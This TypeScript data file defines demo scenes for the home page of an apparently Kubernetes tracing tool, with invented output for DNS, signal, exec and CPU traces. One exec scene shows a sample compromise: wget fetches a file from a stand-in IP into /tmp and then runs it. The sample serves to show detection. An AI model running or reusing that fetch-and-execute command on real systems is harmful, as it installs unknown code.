export interface Column {
  /** As `--fields` takes it. */
  field: string;
  /** As the gadget titles it. */
  title: string;
  /** The narrowest terminal that shows the column, in the command and in the rows; without it, all do. */
  room?: 'medium' | 'wide';
}

/** A gadget at work: a question, the command that answers it, what it prints, and how to read that. */
export interface Scene {
  id: string;
  tab: string;
  gadget: string;
  /** Everything of the command between the gadget and `--fields`. */
  flags: string;
  columns: readonly Column[];
  rows: readonly (readonly string[])[];
  /** The cell that answers the question. */
  found: { row: number; column: number };
  /** What the output says, a sentence a line. */
  reading: readonly string[];
}

/** The scenes of the home page. The values are invented, commands and columns are checked against the gadget data. */
export const SCENES: readonly Scene[] = [
  {
    id: 'dns',
    tab: 'Why does this lookup fail?',
    gadget: 'trace_dns',
    flags: '-n shop --filter qr==R',
    columns: [
      { field: 'k8s.podName', title: 'K8S.PODNAME' },
      { field: 'proc.comm', title: 'COMM', room: 'wide' },
      { field: 'qtype', title: 'QTYPE', room: 'wide' },
      { field: 'name', title: 'NAME' },
      { field: 'latency_ns', title: 'LATENCY_NS', room: 'medium' },
      { field: 'rcode', title: 'RCODE' },
    ],
    rows: [
      ['cart-6f', 'python3', 'A', 'stock.shop.svc.cluster.local.', '1.12ms', 'Success'],
      ['front-8b', 'nginx', 'AAAA', 'cart.shop.svc.cluster.local.', '984.20µs', 'Success'],
      ['front-8b', 'nginx', 'A', 'cart.shop.svc.cluster.local.', '1.03ms', 'Success'],
      ['cart-6f', 'python3', 'AAAA', 'orders.shop.svc.cluster.local.', '912.40µs', 'NameError'],
      ['cart-6f', 'python3', 'A', 'orders.shop.svc.cluster.local.', '840.15µs', 'NameError'],
    ],
    found: { row: 4, column: 5 },
    reading: [
      'The pod cart-6f asks for a service that does not exist.',
      'The answer takes less than a millisecond: the network and the DNS server are fine.',
      'The name in the pod’s configuration is wrong.',
    ],
  },
  {
    id: 'killed',
    tab: 'Who killed it?',
    gadget: 'trace_signal',
    flags: '-n shop',
    columns: [
      { field: 'k8s.podName', title: 'K8S.PODNAME' },
      { field: 'proc.comm', title: 'COMM' },
      { field: 'proc.pid', title: 'PID', room: 'medium' },
      { field: 'sig', title: 'SIG' },
      { field: 'tpid', title: 'TPID' },
    ],
    rows: [
      ['front-8b', 'nginx', '2210', 'SIGCHLD', '2198'],
      ['worker-4d', 'sleep', '3460', 'SIGCHLD', '3402'],
      ['worker-4d', 'watchdog', '3402', 'SIGTERM', '3377'],
      ['worker-4d', 'sleep', '3471', 'SIGCHLD', '3402'],
      ['worker-4d', 'watchdog', '3402', 'SIGKILL', '3377'],
    ],
    found: { row: 4, column: 1 },
    reading: [
      'The worker of worker-4d, process 3377, got a SIGTERM and then a SIGKILL.',
      'Both came from watchdog in the same pod, not from the kernel or the kubelet.',
      'Check the time limit that the watchdog enforces.',
    ],
  },
  {
    id: 'executed',
    tab: 'What just ran?',
    gadget: 'trace_exec',
    flags: '-n shop',
    columns: [
      { field: 'k8s.podName', title: 'K8S.PODNAME' },
      { field: 'proc.comm', title: 'COMM', room: 'wide' },
      { field: 'fupper_layer', title: 'FUPPER_LAYER' },
      { field: 'args', title: 'ARGS' },
    ],
    rows: [
      ['web-5c', 'sh', 'false', '/bin/sh /start.sh'],
      ['web-5c', 'node', 'false', '/usr/bin/node server.js'],
      ['web-5c', 'sh', 'false', '/bin/sh -c id'],
      ['web-5c', 'wget', 'false', '/usr/bin/wget -qO /tmp/m 203.0.113.9/m'],
      ['web-5c', 'm', 'true', '/tmp/m --threads 4'],
    ],
    found: { row: 4, column: 2 },
    reading: [
      'A shell that no user opened fetches a file and starts it.',
      'FUPPER_LAYER is true: the program is not part of the image but was written after the start.',
      'Every start is listed, even of programs that ran for a millisecond.',
    ],
  },
  {
    id: 'cpu',
    tab: 'Where does the CPU go?',
    gadget: 'top_process',
    flags: '-A --sort -cpuUsage --max-entries 5',
    columns: [
      { field: 'k8s.podName', title: 'K8S.PODNAME' },
      { field: 'comm', title: 'COMMAND' },
      { field: 'cpuUsage', title: '%CPU' },
      { field: 'memoryRSS', title: 'RES', room: 'medium' },
      { field: 'threadCount', title: 'THR', room: 'medium' },
    ],
    rows: [
      ['report-7d', 'java', '187.4', '1.9 GB', '48'],
      ['cart-6f', 'python3', '12.6', '118 MB', '9'],
      ['front-8b', 'nginx', '6.1', '24 MB', '4'],
      ['stock-2a', 'postgres', '4.8', '212 MB', '1'],
      ['cart-6f', 'gunicorn', '2.2', '61 MB', '3'],
    ],
    found: { row: 0, column: 2 },
    reading: [
      'One process of report-7d keeps nearly two CPUs busy.',
      'A new table follows every three seconds, for all nodes or one.',
      'profile_cpu then shows which of its functions.',
    ],
  },
];

/** The words of a scene's command in front of the names of its fields. */
export const commandStart = ({ gadget, flags }: Scene): string =>
  `kubectl gadget run ${gadget}:latest ${flags} --fields `;
